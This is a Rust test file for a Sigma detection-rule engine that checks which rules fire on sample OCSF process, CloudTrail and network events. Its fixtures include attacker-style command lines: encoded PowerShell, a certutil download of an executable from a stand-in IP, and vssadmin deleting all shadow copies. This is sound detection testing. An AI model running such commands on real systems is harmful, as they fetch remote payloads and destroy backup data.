//! Sigma rules (test data in `tests/data/analytics/sigma_rules.yml`) on OCSF events.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

mod analytics_support;

use analytics_support::*;
use mesh_core::analytics::{AnalyticsErrorKind, FieldMapping, SigmaRuleSet};
use serde_json::{json, Value};

const RULES: &str = include_str!("data/analytics/sigma_rules.yml");

fn rules() -> SigmaRuleSet {
    let mut s = SigmaRuleSet::new(FieldMapping::new());
    assert_eq!(s.add_yaml(RULES).unwrap(), 7);
    s
}

fn hits(s: &SigmaRuleSet, e: &Value) -> Vec<String> {
    s.evaluate(e).into_iter().map(|m| m.title).collect()
}

#[test]
fn process_creation_rules() {
    let s = rules();
    let enc = process(
        "p1",
        T0,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -NoP /enc SQBFAFgA",
        r"C:\Windows\explorer.exe",
    );
    assert_eq!(hits(&s, &enc), vec!["Encoded PowerShell Command Line"]);
    let sccm = process(
        "p2",
        T0,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -enc SQBFAFgA",
        r"C:\Windows\CCM\CcmExec.exe",
    );
    assert!(hits(&s, &sccm).is_empty());
    let word = process(
        "p3",
        T0,
        r"C:\Windows\System32\cmd.exe",
        "cmd.exe /c whoami",
        r"C:\Program Files\Microsoft Office\root\Office16\winword.exe",
    );
    assert_eq!(hits(&s, &word), vec!["Office Application Spawning a Shell"]);
    let certutil = process(
        "p4",
        T0,
        r"C:\Windows\System32\certutil.exe",
        "certutil -urlcache -split -f https://203.0.113.9/a.exe a.exe",
        r"C:\Windows\System32\cmd.exe",
    );
    assert_eq!(hits(&s, &certutil), vec!["Certutil Download"]);
    let vss = process(
        "p5",
        T0,
        r"C:\Windows\System32\vssadmin.exe",
        "vssadmin.exe Delete Shadows /All /Quiet",
        r"C:\Windows\System32\cmd.exe",
    );
    let m = s.evaluate(&vss);
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].level, mesh_core::analytics::Severity::Critical);
    assert_eq!(m[0].attacks[0].technique.uid, "T1490");
    assert_eq!(m[0].attacks[0].tactic.uid, "TA0040");
    let benign = process(
        "p6",
        T0,
        r"C:\Windows\System32\notepad.exe",
        "notepad a.txt",
        r"C:\Windows\explorer.exe",
    );
    assert!(hits(&s, &benign).is_empty());
}

#[test]
fn security_log_cleared_rule_reads_event_code() {
    let s = rules();
    assert_eq!(
        hits(&s, &log_cleared("w", T0, "bob")),
        vec!["Security Event Log Cleared"]
    );
}

#[test]
fn cloudtrail_rule_with_exists_filter() {
    let s = rules();
    let mut e = api(
        "c1",
        T0,
        "arn:aws:iam::123456789012:user/ops",
        "StopLogging",
        3,
    );
    e["api"]["service"]["name"] = json!("cloudtrail.amazonaws.com");
    assert_eq!(hits(&s, &e), vec!["CloudTrail Logging Stopped"]);
    e["api"]["response"] = json!({"error": "AccessDenied"});
    assert!(hits(&s, &e).is_empty());
}

#[test]
fn network_rule_uses_the_acting_process_and_cidr() {
    let s = rules();
    let mut e = json!({
        "class_uid": 4001, "activity_id": 1, "time": T0,
        "metadata": {"uid": "n1", "version": "1.8.0", "product": {"name": "Sysmon"}},
        "actor": {"process": {"file": {"path": r"C:\Windows\System32\mshta.exe"}}},
        "dst_endpoint": {"ip": "203.0.113.80", "port": 8443},
    });
    assert_eq!(
        hits(&s, &e),
        vec!["Outbound Connection to Uncommon Port from Script Host"]
    );
    e["dst_endpoint"]["ip"] = json!("10.20.30.40");
    assert!(hits(&s, &e).is_empty());
    e["dst_endpoint"]["ip"] = json!("203.0.113.80");
    e["dst_endpoint"]["port"] = json!(443);
    assert!(hits(&s, &e).is_empty());
}

#[test]
fn sigma_match_becomes_a_finding() {
    let s = rules();
    let e = process(
        "p1",
        T0,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -enc SQBFAFgA",
        r"C:\Windows\explorer.exe",
    );
    let m = s.evaluate(&e);
    let f = m[0].to_finding(&e);
    assert_eq!(f.detection, "6f1c7a3e-2b51-4c0e-9d7a-0a5b1e2f3c01");
    assert_eq!(f.actor.as_ref().unwrap().as_str(), "corp\\bob");
    let j = f.to_ocsf();
    assert_eq!(j["finding_info"]["related_events"][0]["uid"], "p1");
    assert_eq!(
        j["finding_info"]["attacks"][0]["sub_technique"]["uid"],
        "T1059.001"
    );
    assert_eq!(j["severity_id"], 4);
}

#[test]
fn lenient_loading_reports_each_bad_rule() {
    let mut s = SigmaRuleSet::new(FieldMapping::new());
    let text = format!(
        "{RULES}\n---\ntitle: bad\nid: bad-1\nlogsource: {{category: process_creation}}\ndetection: {{sel: {{Image|expand: x}}, condition: sel}}\n"
    );
    let (n, errors) = s.add_yaml_lenient(&text);
    assert_eq!(n, 7);
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].kind(), AnalyticsErrorKind::InvalidRule);
    assert!(errors[0].to_string().contains("`bad-1`"), "{}", errors[0]);
    assert!(errors[0].to_string().contains("expand"), "{}", errors[0]);
    // Strict loading adds nothing on error.
    let mut strict = SigmaRuleSet::new(FieldMapping::new());
    assert!(strict.add_yaml(&text).is_err());
    assert!(strict.is_empty());
}

#[test]
fn custom_field_mapping() {
    let mut m = FieldMapping::new();
    m.map_field("Hostname", &["device.name"]);
    let mut s = SigmaRuleSet::new(m);
    s.add_yaml("title: host\nlogsource: {category: process_creation}\ndetection: {sel: {Hostname: 'ws-*'}, condition: sel}\n")
        .unwrap();
    let mut e = process("p", T0, r"C:\a.exe", "a", r"C:\b.exe");
    e["device"]["name"] = json!("WS-042");
    assert_eq!(s.evaluate(&e).len(), 1);
}

#[test]
fn yaml_errors_have_a_location() {
    let mut s = SigmaRuleSet::new(FieldMapping::new());
    let e = s.add_yaml("title: x\ndetection: [a, b\n").unwrap_err();
    assert!(e.to_string().contains(':'), "{e}");
}
